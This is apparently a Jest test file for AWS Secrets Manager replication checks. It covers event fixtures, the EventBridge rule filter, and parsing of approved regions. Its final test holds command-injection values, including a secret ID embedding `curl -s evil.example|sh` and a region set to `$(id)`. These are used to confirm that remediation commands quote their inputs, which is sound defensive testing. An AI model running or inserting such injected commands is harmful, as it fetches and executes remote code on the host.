/**
 * The replication checks against their events (src/checks/replication/<check>/events): each record
 * with the settings its .expected.json names, through the rule EventBridge would match and the
 * check itself; and the rule's filter, so that secrets created without replicas never reach the
 * function.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { checkById } from '../../src/checks';
import type { EventCheck } from '../../src/checks/check';
import { secretReplicaPromoted } from '../../src/checks/replication/secret-replica-promoted';
import { secretReplicatedToUnapprovedRegion } from '../../src/checks/replication/secret-replicated-to-unapproved-region';
import { ConfigError, DEFAULT_CONFIG, configFromEnv, type Config } from '../../src/config/config';
import { parseEvent } from '../../src/events/parse';
import { deletionMonitor } from '../../src/monitors';
import { EventRouter } from '../../src/monitors/router';
import { rulesOf } from '../../src/monitors/rules';
import { compilePattern, validatePattern } from '../../src/patterns';
import { samplesOf, sample } from '../helpers/fixtures';

const CHECKS = join(__dirname, '..', '..', 'src', 'checks', 'replication');
const NOW = new Date('2024-06-01T00:00:00Z');

interface Expected {
  config?: Partial<Config>;
  finding: Record<string, unknown> | null;
}

interface Case {
  check: EventCheck;
  name: string;
  record: Record<string, unknown>;
  expected: Expected;
}

function casesOf(check: EventCheck): Case[] {
  const dir = join(CHECKS, check.id, 'events');
  return readdirSync(dir)
    .filter((f) => f.endsWith('.expected.json'))
    .sort()
    .map((f) => {
      const name = f.slice(0, -'.expected.json'.length);
      return {
        check,
        name,
        record: JSON.parse(readFileSync(join(dir, `${name}.json`), 'utf8')) as Record<string, unknown>,
        expected: JSON.parse(readFileSync(join(dir, f), 'utf8')) as Expected,
      };
    });
}

const checks = [secretReplicatedToUnapprovedRegion, secretReplicaPromoted];
const cases = checks.flatMap(casesOf);
const rule = rulesOf(deletionMonitor).find((r) => r.name === 'secret-replication');
const pattern = compilePattern(rule?.pattern ?? {});
const router = new EventRouter([deletionMonitor]);

function contextOf(expected: Expected) {
  return { config: { ...DEFAULT_CONFIG, ...expected.config }, now: NOW };
}

test('each check has its events, with findings and without', () => {
  for (const check of checks) {
    const own = cases.filter((c) => c.check === check);
    expect(own.some((c) => c.expected.finding !== null)).toBe(true);
    expect(own.some((c) => c.expected.finding === null)).toBe(true);
  }
});

describe.each(cases.map((c) => [`${c.check.id}/${c.name}`, c] as const))('%s', (_label, { check, record, expected }) => {
  const parsed = parseEvent(record);

  test('the check gives the expected finding, or none', () => {
    const finding = check.evaluate(parsed.record, contextOf(expected));
    if (expected.finding === null) expect(finding).toBeNull();
    else expect(finding).toMatchObject(expected.finding);
  });

  test('a setting it reads is one it declares', () => {
    for (const key of Object.keys(expected.config ?? {})) expect(check.settings).toContain(key);
  });

  if (expected.finding !== null) {
    test('the rule delivers it, and the function reports it once', () => {
      expect(pattern.matches(parsed.envelope)).toBe(true);
      const { findings } = router.evaluate(parsed, contextOf(expected));
      const own = findings.filter((f) => f.check === check.id);
      expect(own).toHaveLength(1);
      expect(own[0]).toMatchObject(expected.finding as Record<string, unknown>);
    });
  }
});

describe('the secret-replication rule', () => {
  test('is one rule of deletionMonitor, with a pattern EventBridge accepts', () => {
    expect(rule).toBeDefined();
    expect(() => validatePattern(rule?.pattern)).not.toThrow();
    expect(rule?.allManagementEvents).toBe(false);
  });

  test('delivers CreateSecret only when it adds replica regions', () => {
    const withReplicas = cases.find((c) => c.name === 'create-with-replicas');
    const without = cases.find((c) => c.name === 'create-without-replicas');
    expect(pattern.matches(parseEvent(withReplicas?.record).envelope)).toBe(true);
    expect(pattern.matches(parseEvent(without?.record).envelope)).toBe(false);
  });

  test.each(samplesOf('CreateSecret'))('does not deliver the published CreateSecret record %s (no replicas), and no check would report it', (path) => {
    const parsed = parseEvent(sample(path));
    expect(pattern.matches(parsed.envelope)).toBe(false);
    expect(router.evaluate(parsed, { config: { ...DEFAULT_CONFIG, approvedRegions: ['us-east-1'] }, now: NOW }).findings).toEqual([]);
  });

  test('delivers ReplicateSecretToRegions and StopReplicationToReplica, refused or not', () => {
    for (const c of cases.filter((x) => /^(replicate|stop)-/.test(x.name))) {
      expect({ name: c.name, delivered: pattern.matches(parseEvent(c.record).envelope) }).toEqual({ name: c.name, delivered: true });
    }
  });

  test('a CreateSecret with an empty replica list is not delivered', () => {
    const record = { ...cases[0].record, eventName: 'CreateSecret', requestParameters: { name: 'x', addReplicaRegions: [] } };
    expect(pattern.matches(parseEvent(record).envelope)).toBe(false);
  });
});

describe('registration and settings', () => {
  test('both checks are registered, in the replication family, run by deletionMonitor', () => {
    for (const check of checks) {
      expect(checkById(check.id)).toBe(check);
      expect(check.family).toBe('replication');
      expect(check.monitor).toBe('deletionMonitor');
    }
    expect(secretReplicatedToUnapprovedRegion.settings).toEqual(['approvedRegions']);
    expect(secretReplicaPromoted.settings).toEqual([]);
  });

  test('approvedRegions: a comma list of region names, empty by default', () => {
    expect(DEFAULT_CONFIG.approvedRegions).toEqual([]);
    expect(configFromEnv({ APPROVED_REGIONS: ' us-east-1, eu-west-1 ,,' }).approvedRegions).toEqual(['us-east-1', 'eu-west-1']);
    expect(configFromEnv({ APPROVED_REGIONS: '' }).approvedRegions).toEqual([]);
    expect(() => configFromEnv({ APPROVED_REGIONS: 'us-east-1,Mars' })).toThrow(ConfigError);
    expect(() => configFromEnv({ APPROVED_REGIONS: 'us-east-1,Mars' })).toThrow(/APPROVED_REGIONS/);
  });

  test('the remediation quotes what the record says: no name or region reaches the shell unquoted', () => {
    const evil = cases.find((c) => c.name === 'create-shell-metacharacters') as Case;
    const finding = evil.check.evaluate(parseEvent(evil.record).record, contextOf(evil.expected));
    const command = finding?.remediation.split('. To prevent it')[0] ?? '';
    expect(command).toContain("--secret-id 'arn:aws:secretsmanager:us-east-1:123837392027:secret:prod/db$(curl -s evil.example|sh)'\\''x-AbC123'");
    expect(command).toContain("--remove-replica-regions eu-west-1 '$(id)' --region us-east-1");
  });
});
